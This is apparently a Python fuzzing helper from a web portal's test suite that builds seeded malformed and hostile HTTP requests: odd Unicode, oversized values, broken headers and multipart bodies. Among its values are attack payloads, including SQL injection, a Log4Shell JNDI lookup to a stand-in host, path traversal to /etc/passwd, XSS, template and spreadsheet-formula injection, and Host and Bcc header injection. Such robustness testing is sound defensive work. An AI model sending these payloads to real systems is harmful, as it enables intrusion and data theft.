"""What nobody types: values, bodies, headers and addresses made to break a portal; the same ones for the same seed."""

import random
import re
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, quote_plus

from tests.visitors import ORIGIN
from tests.web.matrix import MATRICE

MARKER = "<svg/onload=alert(1)>\"'{{7*7}}${7*7}%0d%0aX:1"

TEXTS = (
    "",
    " ",
    "\0",
    "a\0b",
    "\ud800",
    "\udfff\ud800",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\ufeff",
    "\u200b",
    "\r\nBcc: x@evil.test",
    "a\nb\x1b[31m",
    "é" * 200,
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 9,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L",
    "' OR '1'='1",
    "'; DROP TABLE compte; --",
    '") OR 1=1 --',
    "%' ESCAPE '_",
    "%_\\",
    "${jndi:ldap://evil.test/a}",
    "{{ config }}{% raw %}",
    "../../../etc/passwd",
    "..\\..\\con",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "//evil.test",
    "http://[",
    "=cmd|' /C calc'!A0",
    MARKER,
    "a@b.fr\nBcc: c@d.fr",
    '"a b"@exemple.fr',
    "a" * 64 + "@" + "b" * 190 + ".fr",
    "a@" + "." * 300,
    "@" * 1000,
    "a@b.fr " * 60,
)
NUMBERS = (
    "0",
    "-1",
    "-0",
    "1e400",
    "NaN",
    "Infinity",
    "１２",
    "٣",
    "²",
    "1 200,50 €",
    "0x10",
    "1_000",
    "9" * 9,
    "2147483647",
    "2147483648",
    "9223372036854775807",
    "9223372036854775808",
    "9" * 20,
    "9" * 5000,
    "2147483648-x",
    "1,005",
    "--5",
    "1.2.3",
)
PATHOLOGICAL = (
    "a" * 50_000 + "!",
    "(" * 20_000,
    " " * 50_000 + "x",
    "a." * 25_000,
    "1 " * 25_000,
    "-" * 50_000,
)
HUGE = ("x" * 1_000_000, "é" * 130_000, "\0" * 90_000)
JUNK = (
    "0",
    "-1",
    "9" * 30,
    "2147483648",
    "%00",
    "%ff%fe",
    "%ED%A0%80",
    "%C3%A9",
    "%27%20OR%201=1",
    "..%2f..",
    "%EF%BC%91%EF%BC%92",
    "x" * 3000,
)
"""In the place of a number or of a token in an address."""

NAMES = (
    *(
        "identifiant",
        "mot_de_passe",
        "confirmation",
        "confirmation_mot_de_passe",
        "civilite",
        "nom",
        "prenom",
    ),
    *(
        "adresse",
        "confirmation_adresse",
        "suite",
        "recherche",
        "etablissement",
        "invitation",
        "adresse_gardee",
    ),
    *("chercher", "corriger", "actuel", "adresses", "fonction", "valider", "vues", "remplace", "raison"),
    *("rattachement", "budget", "retour", "vue", "confirme", "poste", "intitule", "montant", "resume"),
    *("thematique", "annee_scolaire", "porteur_adresse", "fichier", "en_place", "role", "statut"),
)
QUERIES = (
    *("q", "thematique", "depenses", "autres_recettes", "eleves", "semaines", "plusieurs", "deja_obtenu"),
    *(
        "suite",
        "avant",
        "apres",
        "lot",
        "corriger",
        "sans",
        "recherche",
        "invitation",
        "ligne",
        "page",
        "tri",
    ),
)
TYPES = (
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=utf-16",
    "application/x-www-form-urlencoded; charset=bof",
    "multipart/form-data; boundary=x",
    "multipart/form-data",
    "multipart/form-data; boundary=" + "x" * 300,
    "multipart/mixed; boundary=x",
    "application/json",
    "text/plain",
    "",
    "é",
)
HEADERS: tuple[dict[str, str], ...] = (
    {},
    {"X-Forwarded-For": "203.0.113.9, " * 50 + "é"},
    {"Host": "evil.test"},
    {"Host": "["},
    {"X-Forwarded-Host": "evil.test", "X-Forwarded-Proto": "gopher"},
    {"Referer": "http://["},
    {"Referer": f"{ORIGIN}/%00"},
    {"Referer": f"{ORIGIN}/mon-compte?x=%ff&é"},
    {"Referer": "https://evil.test/connexion"},
    {"HX-Request": "true", "HX-Target": "section#" + "x" * 2000},
    {"HX-Request": "true", "HX-Target": "main", "HX-Current-URL": "http://["},
    {"HX-Request": "true", "HX-Target": "#contenu", "HX-Current-URL": f"{ORIGIN}/demandes/../x"},
    {"HX-Request": "true", "HX-Target": "#messages"},
    {"HX-Request": "true", "HX-Boosted": "true", "HX-History-Restore-Request": "true"},
    {"Accept-Encoding": "br;q=bof, é", "Accept": "application/json"},
    {"Accept-Language": "en", "Accept": "application/json, text/plain"},
    {"User-Agent": "\0" * 50 + "é" * 9000},
    {"Content-Length": "-5"},
    {"Content-Length": "²"},
    {"Content-Length": "99999999999999999999"},
    {"Transfer-Encoding": "bof"},
    {"If-None-Match": '"' * 999},
    {"Range": "bytes=9-1"},
    {"Origin": "http://["},
    {"Origin": "null", "Sec-Fetch-Site": "same-origin"},
    {"Sec-Fetch-Site": "bof"},
    {"Cookie": 'session="\\377'},
    {"Cookie": "session=s." + "é" * 50 + "; message=e30.x"},
    {"Cookie": "session=s.\0"},
    {"Cookie": "=; ;; =" * 500},
    {"X-HTTP-Method-Override": "DELETE"},
)


@dataclass
class Request:
    """One request, whoever sends it."""

    method: str
    path: str
    headers: dict[str, str] = field(default_factory=dict[str, str])
    body: bytes = b""

    def __str__(self) -> str:
        return f"{self.method} {self.path[:120]!r} {str(self.headers)[:160]} {self.body[:160]!r}"


def value(chance: random.Random) -> str:
    drawn = chance.random()
    if drawn < 0.55:
        return chance.choice(TEXTS)
    if drawn < 0.85:
        return chance.choice(NUMBERS)
    if drawn < 0.93:
        return "".join(chr(chance.randrange(1, 0x2FFFF)) for _ in range(chance.randrange(1, 12)))
    return chance.choice(PATHOLOGICAL) if drawn < 0.99 else chance.choice(HUGE)


def encode(text: str) -> str:
    return quote_plus(text.encode("utf-8", "surrogatepass"))


def junk_path(route: str, chance: random.Random) -> str:
    return re.sub(r"\{[^}]*\}", lambda _: chance.choice(JUNK), route.partition(" ")[2])


def urlencoded(jeton: str, chance: random.Random) -> bytes:
    names = chance.sample(NAMES, chance.randrange(1, 14))
    names += chance.sample(names, chance.randrange(0, len(names)))  # said twice
    if chance.random() < 0.03:
        names += [f"x{number}" for number in range(2000)]
    pairs = [f"{encode(name)}={encode(value(chance))}" for name in names]
    if chance.random() < 0.1:
        pairs.append(chance.choice(["%ff=%fe", "=", "%", "a=%zz", "&&&&", "jeton=", "nom", "\x80"]))
    chance.shuffle(pairs)
    sent = "&".join([f"jeton={quote(jeton)}", *pairs]) if chance.random() < 0.9 else "&".join(pairs)
    return sent.encode("utf-8", "surrogatepass")


def multipart(jeton: str, chance: random.Random) -> bytes:
    def part(name: str, content: bytes, more: str = "") -> bytes:
        head = f'--x\r\nContent-Disposition: form-data; name="{name}"{more}\r\n\r\n'
        return head.encode("utf-8", "surrogatepass") + content + b"\r\n"

    files = [
        b"",
        b"\xff\xfe\x00",
        b"a;b\n" * 20_000,
        b"identifiant_de_l_etablissement\n" + b"x," * 9000,
        b"PK\x03\x04",
    ]
    names = ["a.csv", "\0.csv", "..\\..\\x", '"', "é\r\n", "x" * 2000]
    more = f'; filename="{chance.choice(names)}"'
    body = part("jeton", jeton.encode()) + part("fichier", chance.choice(files), more)
    body += part(chance.choice(NAMES), value(chance).encode("utf-8", "surrogatepass"))
    end = b"--x--\r\n"
    return chance.choice(
        [body + end, body, body[:-40], body.replace(b"--x", b"--y", 1), b"--x", b"", body + end + body]
    )


def hostile_request(route: str, path: str, jeton: str, chance: random.Random) -> Request:
    """One request to this route; `path` is its address of an object that exists."""
    method = route.partition(" ")[0]
    address = path if chance.random() < 0.7 else junk_path(route, chance)
    headers = dict(chance.choice(HEADERS)) if chance.random() < 0.5 else {}
    if chance.random() < 0.5:
        names = chance.sample(QUERIES, chance.randrange(1, 4))
        address += "?" + "&".join(f"{encode(n)}={encode(value(chance)[:6000])}" for n in names)
        address += chance.choice(["", "&", "&&=", "&q=%ff", "&q[]=1", "&q=%00", "&%00=1"])
    if method == "GET":
        return Request(method, address, headers)
    sent: dict[str, Any] = {"Origin": ORIGIN, **headers}
    drawn = chance.random()
    if drawn < 0.75:
        return Request(method, address, {"Content-Type": TYPES[0], **sent}, urlencoded(jeton, chance))
    if drawn < 0.9:
        return Request(method, address, {"Content-Type": TYPES[3], **sent}, multipart(jeton, chance))
    body = chance.choice([urlencoded, multipart])(jeton, chance)
    return Request(method, address, {"Content-Type": chance.choice(TYPES), **sent}, body)


def routes_in_turn(rounds: int) -> list[str]:
    every = sorted(MATRICE)
    return [every[number % len(every)] for number in range(rounds)]
